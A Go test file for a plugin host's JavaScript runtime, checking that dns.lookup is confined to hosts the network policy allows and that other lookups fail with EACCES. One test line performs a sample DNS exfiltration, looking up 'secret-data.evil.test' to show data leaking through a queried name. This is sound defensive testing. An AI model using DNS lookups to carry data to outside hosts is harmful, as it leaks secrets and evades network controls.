package unsupported_test

import (
	"testing"

	"github.com/pluginhost/pluginhost/internal/jstest"
	"github.com/pluginhost/pluginhost/jsruntime"
	"github.com/pluginhost/pluginhost/jsruntime/modules"
	"github.com/pluginhost/pluginhost/jsruntime/node/buffer"
	"github.com/pluginhost/pluginhost/jsruntime/node/process"
	"github.com/pluginhost/pluginhost/jsruntime/node/unsupported"
	"github.com/pluginhost/pluginhost/jsruntime/policy"
	"github.com/pluginhost/pluginhost/jsruntime/web"
)

// dns.lookup resolves only names the policy lets the plugin connect to (on any port): a lookup
// carries data out in the name it asks for. A refusal is getaddrinfo EACCES naming the rule.
func TestPolicyDNSLookup(t *testing.T) {
	rt := jstest.New(t, func(rt *jsruntime.Runtime) error {
		policy.Install(rt, policy.Setup{}).Decide(&policy.Policy{Rule: "pluginHost.plugins.p", Network: []string{"localhost:8080"}})
		return nil
	}, buffer.Install, web.Install,
		func(rt *jsruntime.Runtime) error { return process.Install(rt, process.Config{}) },
		jstest.Require(map[string]modules.Builtin{"dns": unsupported.Modules["dns"], "dns/promises": unsupported.Modules["dns/promises"]}))
	got := jstest.AwaitJSON(t, rt, `Promise.all([
		new Promise((resolve) => require('dns').lookup('localhost', { family: 4 }, (err, address) => resolve(err ? err.code : address))),
		new Promise((resolve) => require('dns').lookup('secret-data.evil.test', (err) => resolve([err.message, err.code, err.errno, err.syscall, err.hostname]))),
		require('dns/promises').lookup('example.com').catch((err) => err.code),
	])`)
	jstest.Expect(t, "lookups", got, `["127.0.0.1",["getaddrinfo EACCES secret-data.evil.test (pluginHost.plugins.p.network does not allow it)","EACCES",-13,"getaddrinfo","secret-data.evil.test"],"EACCES"]`)
}
